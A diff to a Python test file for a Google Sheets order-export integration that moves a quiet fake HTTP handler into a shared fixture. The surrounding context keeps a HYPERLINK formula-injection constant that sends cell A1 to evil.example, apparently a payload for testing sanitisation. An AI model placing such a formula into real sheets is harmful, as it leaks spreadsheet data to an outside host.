@@ -43,7 +43,12 @@ from orderhub.delivery.integrations.sheets.google import (
     quote_sheet,
 )
 from tests.fixtures.orders import api_order
-from tests.fixtures.peers import GOOGLE_CLIENT_EMAIL, rsa_key_pair, write_service_account
+from tests.fixtures.peers import (
+    GOOGLE_CLIENT_EMAIL,
+    QuietHandler,
+    rsa_key_pair,
+    write_service_account,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 
@@ -419,13 +424,7 @@ class FakeGoogleSheets:
         self.lock = threading.Lock()
         fake = self
 
-        class Handler(BaseHTTPRequestHandler):
-            protocol_version = "HTTP/1.1"
-            disable_nagle_algorithm = True
-
-            def log_message(self, *args: Any) -> None:
-                pass
-
+        class Handler(QuietHandler):
             def do_GET(self) -> None:
                 fake.handle(self, "GET")
 
